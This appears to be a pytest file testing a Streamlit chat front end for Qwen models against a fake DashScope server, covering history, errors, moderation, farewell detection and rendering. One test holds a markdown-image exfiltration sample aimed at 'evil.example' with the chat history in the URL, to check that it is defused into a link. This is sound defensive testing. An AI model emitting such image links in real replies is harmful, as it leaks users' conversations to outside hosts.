"""The chat page driven by AppTest against the fake DashScope server."""

from __future__ import annotations

from streamlit.testing.v1 import AppTest

from qwenchat.i18n import t
from tests.apptest import APP, TIMEOUT, chat, on_chat, on_settings, send
from tests.fake_dashscope import VALID_KEY


def test_without_a_key_the_page_explains_and_the_input_waits(fake, app_env):
    app_env.delenv("DASHSCOPE_API_KEY")
    at = AppTest.from_file(str(APP), default_timeout=TIMEOUT)
    at.run()
    assert not at.exception
    help_text = " ".join(i.value for i in at.info)
    assert "百炼" in help_text and "Model Studio" in help_text
    assert help_text == t("chat.key_help", "zh") and ".env" in help_text and "secrets.toml" in help_text
    assert at.chat_input(key="chat_input").disabled
    assert not fake.requests


def test_a_key_typed_on_the_settings_page_enables_the_chat(fake, app_env):
    app_env.delenv("DASHSCOPE_API_KEY")
    at = AppTest.from_file(str(APP), default_timeout=TIMEOUT)
    at.run()
    assert at.chat_input(key="chat_input").disabled and at.get("page_link")  # the way to the key box
    on_settings(at)
    at.text_input(key="api_key_input").input(VALID_KEY).run()
    on_chat(at)
    assert not at.chat_input(key="chat_input").disabled
    # With the visitor's own key, the region selected on the settings page is used: point it at the fake.
    on_settings(at)
    at.selectbox(key="region").select("custom").run()
    at.text_input(key="custom_base_url").input(fake.base_url).run()
    on_chat(at)
    send(at, "你好")
    assert chat(at)[-1] == ("assistant", "收到：你好")


def test_a_conversation_sends_the_whole_history_and_shows_usage(app, fake):
    send(app, "第一句")
    send(app, "第二句")
    assert chat(app) == [("user", "第一句"), ("assistant", "收到：第一句"),
                         ("user", "第二句"), ("assistant", "收到：第二句")]
    sent = fake.requests[-1]["body"]["messages"]
    assert [m["role"] for m in sent] == ["system", "user", "assistant", "user"]
    assert sent[2]["content"] == "收到：第一句"
    usage_table = " ".join(md.value for md in app.sidebar.markdown)
    last, first = fake.usages[-1], fake.usages[-2]
    assert f"| 输入 | {last['prompt_tokens']:,} | {first['prompt_tokens'] + last['prompt_tokens']:,} |" \
        in usage_table


def test_reset_clears_messages_and_usage_and_the_next_request_has_no_old_turn(app, fake):
    send(app, "记住这个词：菠萝")
    app.sidebar.button(key="reset").click().run()
    assert chat(app) == []
    assert "| 合计 | – | 0 |" in " ".join(md.value for md in app.sidebar.markdown)
    send(app, "新的问题")
    sent = fake.requests[-1]["body"]["messages"]
    assert [m["content"] for m in sent if m["role"] != "system"] == ["新的问题"]


def test_an_error_is_a_clear_message_the_user_message_stays_and_retry_resends_it(app, fake):
    fake.enqueue({"kind": "error", "code": "limit_requests"}, {"kind": "error", "code": "limit_requests"},
                 {"kind": "error", "code": "limit_requests"})  # the SDK retries twice by itself
    send(app, "请回答")
    assert not app.exception
    assert chat(app)[0] == ("user", "请回答")
    assert app.error[0].value == t("error.rate_limit", "zh")  # no browser locale: Chinese
    retry = [b for b in app.button if b.key and b.key.startswith("retry_")]
    assert len(retry) == 1
    retry[0].click().run()
    assert not app.exception
    assert chat(app) == [("user", "请回答"), ("assistant", "收到：请回答")]
    assert not app.error


def test_output_moderation_withdraws_the_partial_reply(app, fake):
    send(app, "[[fake:output_moderation]]")
    assert chat(app)[-1] == ("assistant", "")  # the withdrawn text is not shown
    assert app.warning[0].value == t("error.output_moderation", "zh")
    send(app, "下一个问题")
    sent = [m["content"] for m in fake.requests[-1]["body"]["messages"]]
    assert "这段回答将被撤回。" not in sent


def test_a_cut_connection_keeps_the_partial_text_marked_interrupted(app, fake):
    send(app, "[[fake:cut]]")
    assert chat(app)[-1] == ("assistant", "这段回答说到一半，")
    assert app.warning[0].value == t("error.interrupted", "zh")


def test_thinking_is_shown_apart_and_never_sent_back(app, fake):
    send(app, "[[fake:think]]")
    assistant = app.chat_message[-1]
    assert assistant.expander[0].label == t("chat.thinking", "zh")
    assert "想一想" in assistant.expander[0].markdown[0].value
    send(app, "然后呢")
    sent = fake.requests[-1]["body"]["messages"]
    assert all("想一想" not in m["content"] for m in sent)


def test_an_empty_or_huge_message_is_refused_with_a_clear_message(app, fake):
    send(app, "   ")
    assert "空" in app.warning[0].value
    send(app, "长" * 25_000)
    assert "太长" in app.warning[0].value
    assert app.code[0].value == "长" * 25_000  # nothing is lost: the text is there to copy
    assert not fake.requests


def test_a_farewell_closes_the_conversation_without_calling_the_model(app, fake):
    send(app, "介绍一下长城。")
    calls = len(fake.requests)
    send(app, "好的我知道了")
    assert chat(app)[-1] == ("assistant", "感谢您的咨询，再见！")
    assert len(fake.requests) == calls
    assert app.chat_input(key="chat_input").disabled
    panel = " ".join(md.value for md in app.sidebar.markdown)
    assert t("ending.end", "zh") in panel
    app.button(key="keep_talking").click().run()
    assert not app.chat_input(key="chat_input").disabled
    send(app, "那明天呢？")
    assert chat(app)[-1] == ("assistant", "收到：那明天呢？")
    assert len(chat(app)) == 6  # the same conversation went on


def test_new_conversation_after_a_farewell_starts_fresh(app, fake):
    send(app, "bye")
    assert chat(app)[-1][1] == "感谢您的咨询，再见！"  # one word says too little: the UI's language (中文)
    app.button(key="new_conversation").click().run()
    assert chat(app) == [] and not app.chat_input(key="chat_input").disabled


def test_thanks_followed_by_a_question_is_not_an_ending(app, fake):
    send(app, "谢谢，那尺码呢？")
    assert chat(app)[-1] == ("assistant", "收到：谢谢，那尺码呢？")
    assert not app.chat_input(key="chat_input").disabled


def test_the_judge_decides_unsure_messages_and_its_tokens_are_counted(app, fake):
    send(app, "介绍一下长城。")
    on_settings(app).toggle(key="judge").set_value(True).run()
    on_chat(app)
    fake.enqueue({"kind": "json", "content": '{"end": true, "confidence": 0.9, "reason": "done"}'})
    send(app, "好的")  # a bare "ok": the rules are unsure
    judged = fake.requests[-1]["body"]
    assert judged["stream"] is False and judged["temperature"] == 0 and judged["enable_thinking"] is False
    assert chat(app)[-1] == ("assistant", "感谢您的咨询，再见！")
    panel = " ".join(md.value for md in app.sidebar.markdown)
    assert t("ending.method.judge", "zh") in panel
    reply_usage, judge_usage = fake.usages[-2], fake.usages[-1]
    total = reply_usage["total_tokens"] + judge_usage["total_tokens"]
    assert f"| {total:,} |" in panel


def test_a_confident_message_never_calls_the_judge(app, fake):
    on_settings(app).toggle(key="judge").set_value(True).run()
    on_chat(app)
    send(app, "再见")
    assert not fake.requests and chat(app)[-1][1] == "感谢您的咨询，再见！"


def test_the_region_picker_starts_on_the_apps_own_region(app_env):
    from qwenchat.config import REGIONS

    app_env.setenv("DASHSCOPE_BASE_URL", REGIONS["singapore"])
    at = AppTest.from_file(str(APP), default_timeout=TIMEOUT)
    at.run()
    on_settings(at)
    assert at.selectbox(key="region").value == "singapore"
    assert not [c for c in at.caption if "只会连接服务器配置的地址" in c.value]


def test_an_image_in_a_reply_is_a_link_not_a_picture_the_browser_loads(app, fake):
    fake.enqueue({"kind": "text", "chunks": ["看图：", "![秘密](https://evil.example/p?d=history)"]})
    send(app, "画个图")
    assert chat(app)[-1] == ("assistant", "看图：[🖼️ 秘密](https://evil.example/p?d=history)")


def test_a_reply_with_a_broken_character_is_shown_and_saved_not_an_error(app, fake):
    # A JSON escape can carry half a character ("\ud800"): no page, file or database takes it as it is.
    fake.enqueue({"kind": "text", "chunks": ["半个\ud800字", " 😀\udc00完"], "reasoning": ["想\udfff"]})
    send(app, "你好")
    assert chat(app)[-1] == ("assistant", "想\ufffd\n半个\ufffd字 😀\ufffd完")  # its thinking, then the reply
    assert not app.error and not app.exception
    saving = app.session_state["chat"].saving
    assert saving.status == "saved" and not saving.pending  # in the store, not only on screen


def test_the_pages_have_ascii_addresses_and_the_old_chinese_ones_still_open_them(app):
    addresses: dict[str, set[str]] = {}
    for page in app._registered_pages.values():
        addresses.setdefault(page["script_path"].rsplit("/", 1)[-1], set()).add(page["url_pathname"])
    assert addresses["usage.py"] == {"usage", "用量_Usage"} and addresses["history.py"] == {"history", "历史对话_History"}
    shown = {page["url_pathname"] for page in app._registered_pages.values() if page["icon"]}  # the menu's
    assert shown == {"", "usage", "history", "knowledge", "evaluate", "settings"}
